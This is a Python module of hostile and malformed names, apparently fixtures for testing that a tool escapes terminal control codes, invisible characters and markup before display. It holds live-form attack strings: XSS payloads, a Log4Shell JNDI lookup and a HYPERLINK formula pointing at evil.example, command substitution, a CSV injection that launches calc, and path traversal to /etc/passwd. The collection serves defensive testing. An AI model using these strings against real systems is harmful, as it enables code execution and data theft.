"""Names that an attacker, or an accident, gives to columns, classes, targets and files."""

import re

NAMES = [
    # Sequences that control a terminal.
    "\x1b[31mred\x1b[0m",
    "\x1b[2J\x1b[Hcleared",
    "\x1b]0;title\x07",
    "\x1b]52;c;ZWNobyBvd25lZA==\x07",  # OSC 52 writes the clipboard
    "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\",
    '\x1bP$q"p\x1b\\',
    "\x1b[6n",
    "\x9b31mC1\x9c",
    "\x9d52;c;ZQ==\x9c",
    "\x90q\x9c",
    "bell\x07",
    "nul\x00nul",
    "over\x08\x08\x08\x08write",
    "del\x7f",
    "shift\x0eout\x0fin",
    "accuracy 1.0\rname",
    "\x85next line",
    # Line breaks of all kinds.
    "two\nlines",
    "two\r\nlines",
    "\nName: forged",
    "vertical\x0btab",
    "form\x0cfeed",
    "file\x1cgroup\x1drecord\x1eunit\x1f",
    "line\u2028separator",
    "paragraph\u2029separator",
    "a\ttab",
    # Letters that are not seen, or that reorder what is.
    "\u202egpj.exe",
    "\u2066isolate\u2069",
    "\u200emark\u200f",
    "\u061carabic mark",
    "zero\u200bwidth",
    "word\u2060joiner",
    "soft\u00adhyphen",
    "\ufeffbyte-order mark",
    "tag\U000e0041\U000e007f",
    "annotation\ufff9a\ufffab\ufffb",
    "none\ufffe\uffff\ufdd0",
    "lone\ud800surrogate",
    "byte\udcff",
    # Markup and templates.
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    "]]>",
    "<!-- --",
    "-->",
    "</style></title></pre>",
    "<?xml version='1.0'?>",
    "&amp;&lt;&#0;",
    "&bogus;",
    "${jndi:ldap://evil.example/a}",
    "{{ 7 * 7 }}",
    "{0}{name!r}{}",
    "%s%n%(name)s",
    "$x^2$",
    r"$\frac{$",
    r"\x1b[31m",
    "$(touch owned)`touch owned`",
    # Formulas, and what a table is made of.
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example","a")',
    "@SUM(A1)",
    "+1",
    "-1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
    "a,b",
    "a;b|c",
    'say "hi"',
    '"',
    "'",
    "lone\rreturn",
    "#comment",
    "x" * 10_000,
    "W" * 300 + "\x1b[0m",
    "",
    " ",
    " padded ",
    "\u00a0",
    # Words that mean something to a program.
    "__class__",
    "__proto__",
    "_doc_link_module",
    "constructor",
    "--help",
    "-",
    "../../x",
    "/etc/passwd",
    "CON",
    "nan",
    "NULL",
    "None",
    "True",
    "1e999",
    "007",
    "2024-01-01",
    # Letters that are right as they are.
    "naïve",
    "e\u0301\u0323",
    "日本語",
    "עברית",
    "العربية",
    "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645",  # a joiner that Persian needs
    "👩\u200d👩\u200d👧\u200d👦",
    "🏳\ufe0f\u200d🌈",
    "Z\u0351\u0352\u0357al\u0334go",
]
"""Each once. None of them may do anything but be shown."""

UNSAFE = re.compile(
    "[\0-\x1f\x7f-\x9f\xad\u061c\u200b\u200e\u200f\u2028-\u202e\u2060-\u206f\ufeff\ufff9-\ufffb"
    "\ud800-\udfff\ufdd0-\ufdef\ufffe\uffff\U000e0000-\U000e007f]"
)
"""What must not reach a terminal, a page or a picture as it is."""


def shown(name):
    """A name as it must be shown."""
    return UNSAFE.sub(lambda found: found[0].encode("unicode_escape").decode(), name)


def is_safe(text, keep="\n"):
    """Whether a text has nothing that controls a terminal, but for these characters."""
    return not set(UNSAFE.findall(text)) - set(keep)


def is_utf8(name):
    """Whether a file in UTF-8 can hold a name."""
    return not re.search("[\ud800-\udfff]", name)
